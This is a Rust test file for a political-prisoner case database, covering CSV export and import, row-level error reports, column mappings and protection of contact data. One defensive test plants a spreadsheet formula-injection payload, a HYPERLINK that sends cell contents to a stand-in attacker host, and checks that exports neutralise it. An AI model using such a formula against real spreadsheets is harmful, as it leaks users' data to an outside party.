//! Export and import: the round trip, the row-by-row error report, mappings, dry runs.

use crate::helpers::{TestDb, on_both};

/// A CSV export without the columns that carry ids, which a new database renumbers.
fn without_refs(csv: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let keep: Vec<usize> = headers
        .iter()
        .enumerate()
        .filter(|(_, h)| !h.ends_with("_ref"))
        .map(|(i, _)| i)
        .collect();
    reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            keep.iter()
                .map(|&i| r.get(i).unwrap())
                .collect::<Vec<_>>()
                .join("\u{1f}")
        })
        .collect()
}

async fn export_then_import_gives_the_same_public_export(db: &TestDb) {
    db.ok(&["demo", "--people", "80", "--seed", "3"]);
    let first = db.ok(&["export", "--format", "csv"]);
    let file = db.dir.path().join("public.csv");
    std::fs::write(&file, &first).unwrap();

    let other = db.another().await;
    let dry = other.ok(&["import", file.to_str().unwrap(), "--dry-run"]);
    assert!(
        dry.starts_with("dry run:") && dry.contains("nothing was written"),
        "{dry}"
    );
    assert!(
        other.ok(&["export", "--format", "csv"]).lines().count() == 1,
        "a dry run writes nothing"
    );
    let done = other.ok(&["import", file.to_str().unwrap()]);
    assert!(done.starts_with("imported "), "{done}");
    let second = other.ok(&["export", "--format", "csv"]);
    assert_eq!(without_refs(&first), without_refs(&second));
    assert!(first.lines().count() > 60);
    other.finish().await;
}
on_both!(
    export_then_import_gives_the_same_public_export,
    export_then_import_gives_the_same_public_export
);

async fn every_bad_row_is_reported_and_nothing_imported(db: &TestDb) {
    let file = db.dir.path().join("sheet.csv");
    std::fs::write(
        &file,
        "name,country,categories,arrested,charges,sentenced,sentence_months,released,release_reason\n\
         Leyla Məmmədova,AZ,journalist,2024-03-01,206.3.2,2024-09-10,60,,\n\
         ,AZ,journalist,2024-03-01,,,,,\n\
         Anar Əliyev,AZ,poet,2024-03-01,,,,,\n\
         Rəşad Həsənov,AZ,activist,2024-02-30,,,,,\n\
         Günel Quliyeva,AZ,blogger,2024-05-02,,,,2024-03-01,pardoned\n\
         Tofiq Səfərov,AZ,lawyer,2024-05-02,,2024-06-01,sixty,,\n\
         Elçin Nəsirov,AZ,lawyer,2024-05-02,,,,\n",
    )
    .unwrap();
    let err = db.fails(&["import", file.to_str().unwrap()]);
    for expected in [
        "6 bad row(s); nothing was imported",
        "line 3: invalid name: a name cannot be empty",
        "line 4: unknown category 'poet'",
        "line 5: arrested: '2024-02-30' is not a real date",
        "line 6: released on 2024-03-01 (the new event) is before arrested on 2024-05-02",
        "line 7: sentence_months: 'sixty' is not a number of months",
        "line 8: unreadable row",
    ] {
        assert!(err.contains(expected), "expected {expected:?} in:\n{err}");
    }
    assert!(!err.contains("line 2:"), "{err}");
    assert!(
        db.ok(&["person", "list"]).lines().count() == 1,
        "nothing imported"
    );
}
on_both!(
    every_bad_row_is_reported_and_nothing_imported,
    every_bad_row_is_reported_and_nothing_imported
);

async fn a_mapping_reads_a_spreadsheet_with_its_own_headers(db: &TestDb) {
    let sheet = db.dir.path().join("ngo.csv");
    std::fs::write(
        &sheet,
        "Full name;Other spellings;Articles;Arrest date;Sentence date;Months;Release date;Why released\n\
         Leyla Məmmədova;Лейла Мамедова;206.3.2 | 193-1.3.1;2023-03;2023-11-20;24;;\n\
         Anar Əliyev;;221.3;2022-01-10;2022-06-01;12;2022-12-01;pardoned\n"
            .replace(';', ","),
    )
    .unwrap();
    let mapping = db.dir.path().join("mapping.toml");
    std::fs::write(
        &mapping,
        "[columns]\nname = \"Full name\"\nvariants = \"Other spellings\"\ncharges = \"Articles\"\narrested = \"Arrest date\"\n\
         sentenced = \"Sentence date\"\nsentence_months = \"Months\"\nreleased = \"Release date\"\nrelease_reason = \"Why released\"\n\
         [defaults]\ncountry = \"AZ\"\n",
    )
    .unwrap();
    let out = db.ok(&[
        "import",
        sheet.to_str().unwrap(),
        "--mapping",
        mapping.to_str().unwrap(),
    ]);
    assert!(out.contains("2 people, 2 cases"), "{out}");
    let held = db.ok(&["list", "--as-of", "2024-01-01", "--format", "csv"]);
    assert!(
        held.contains("Leyla Məmmədova,AZ,,imprisoned,2023-03,2025-03"),
        "{held}"
    );
    assert!(!held.contains("Anar"), "{held}");
    let show = db.ok(&["person", "show", "1"]);
    assert!(
        show.contains("Лейла Мамедова") && show.contains("193-1.3.1"),
        "{show}"
    );

    std::fs::write(
        &mapping,
        "[columns]\nname = \"Full name\"\nshoe_size = \"Shoes\"\n",
    )
    .unwrap();
    let err = db.fails(&[
        "import",
        sheet.to_str().unwrap(),
        "--mapping",
        mapping.to_str().unwrap(),
    ]);
    assert!(err.contains("unknown field 'shoe_size'"), "{err}");
}
on_both!(
    a_mapping_reads_a_spreadsheet_with_its_own_headers,
    a_mapping_reads_a_spreadsheet_with_its_own_headers
);

async fn internal_exports_carry_notes_and_never_contacts(db: &TestDb) {
    db.ok(&[
        "person",
        "add",
        "--name",
        "Leyla Məmmədova",
        "--note",
        "Visits on Tuesdays.",
        "--contact",
        "sister +994 50",
    ]);
    let public = db.ok(&["export", "--format", "json"]);
    assert!(
        public.contains("Leyla Məmmədova")
            && !public.contains("Tuesdays")
            && !public.contains("+994"),
        "{public}"
    );
    let internal = db.ok(&["export", "--format", "ndjson", "--level", "internal"]);
    assert!(
        internal.contains("Tuesdays") && !internal.contains("+994"),
        "{internal}"
    );
    let err = db.fails(&["export", "--level", "restricted"]);
    assert!(err.contains("invalid value 'restricted'"), "{err}");
}
on_both!(
    internal_exports_carry_notes_and_never_contacts,
    internal_exports_carry_notes_and_never_contacts
);

/// The same demo seed on SQLite and PostgreSQL gives the same public record, ids aside.
#[tokio::test]
#[cfg_attr(
    not(habeas_pg_tests),
    ignore = "PostgreSQL: set HABEAS_TEST_PG_URL to run (.ci/run does)"
)]
async fn the_demo_is_the_same_on_both_databases() {
    let sqlite = TestDb::new(crate::helpers::Backend::Sqlite).await;
    let pg = TestDb::new(crate::helpers::Backend::Postgres).await;
    for db in [&sqlite, &pg] {
        db.ok(&["demo", "--people", "120", "--seed", "11"]);
    }
    let a = sqlite.ok(&["export", "--format", "csv"]);
    let b = pg.ok(&["export", "--format", "csv"]);
    assert_eq!(
        a, b,
        "same seed, same export (ids included: both databases number from 1)"
    );
    pg.finish().await;
    sqlite.finish().await;
}

/// Values that a spreadsheet would run as formulas are written as text in every CSV
/// habeas makes (export, list, statistics), and importing the export gives them back
/// exactly.
async fn csv_cells_never_become_formulas_and_still_round_trip(db: &TestDb) {
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let id = db.ok(&[
        "person",
        "add",
        "--name",
        "Leyla Məmmədova",
        "--country",
        "AZ",
        "--category",
        "journalist",
        "--bio",
        formula,
        "--affiliation",
        "@SUM(1+1)",
        "--note",
        "+994 50 000 00 00",
        "--note-level",
        "public",
    ]);
    db.ok(&[
        "case",
        "add",
        "--person",
        id.trim(),
        "--arrested",
        "2024-03-01",
        "--place=-2+3",
        "--court",
        "'=already quoted",
    ]);

    let export = db.ok(&["export", "--format", "csv"]);
    let list = db.ok(&["list", "--format", "csv", "--as-of", "2025-01-01"]);
    for csv in [&export, &list] {
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let mut cells = 0;
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                cells += 1;
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell:?} in\n{csv}"
                );
            }
        }
        assert!(cells > 5, "{csv}");
    }
    assert!(export.contains("'=HYPERLINK"), "{export}");
    assert!(export.contains("'@SUM(1+1)") && export.contains("'-2+3"));
    assert!(export.contains("''=already quoted"), "{export}");

    let file = db.dir.path().join("public.csv");
    std::fs::write(&file, &export).unwrap();
    let other = db.another().await;
    other.ok(&["import", file.to_str().unwrap()]);
    let json = other.ok(&["export", "--format", "json"]);
    let people: serde_json::Value = serde_json::from_str(&json).unwrap();
    let person = &people[0];
    assert_eq!(person["bio"], formula);
    assert_eq!(person["affiliations"][0], "@SUM(1+1)");
    assert_eq!(person["cases"][0]["place"], "-2+3");
    assert_eq!(person["cases"][0]["court"], "'=already quoted");
    assert_eq!(
        without_refs(&export),
        without_refs(&other.ok(&["export", "--format", "csv"]))
    );
    other.finish().await;
}
on_both!(
    csv_cells_never_become_formulas_and_still_round_trip,
    csv_cells_never_become_formulas_and_still_round_trip
);

/// Import errors name the line a text editor shows, whatever wrote the file: CRLF line
/// ends (spreadsheets on Windows), a byte-order mark, blank lines, a cell spanning lines.
#[tokio::test]
async fn import_errors_name_the_right_line_in_any_file() {
    let db = TestDb::new(crate::helpers::Backend::Sqlite).await;
    for (file, says) in [
        (
            "name,country,arrested\r\nLeyla,AZ,2024-03-01\r\n,AZ,2024-03-01\r\n",
            "line 3: invalid name",
        ),
        (
            "\u{feff}name,country,arrested\r\nLeyla,AZ,2024-03-01\r\n\r\nAnar,AZ,2024-02-30\r\n",
            "line 4: arrested",
        ),
        (
            "name,country,bio,arrested\n\"Leyla\",AZ,\"one\ntwo\nthree\",2024-03-01\nAnar,AZ,x,2024-13-01\n",
            "line 5: arrested",
        ),
        (
            "name,country,arrested\n\nLeyla,AZ,2024-03-01\n,AZ,2024-03-01\n",
            "line 4: invalid name",
        ),
    ] {
        let path = db.dir.path().join("sheet.csv");
        std::fs::write(&path, file).unwrap();
        let err = db.fails(&["import", path.to_str().unwrap()]);
        assert!(err.contains(says), "{file:?}: {err}");
    }
}
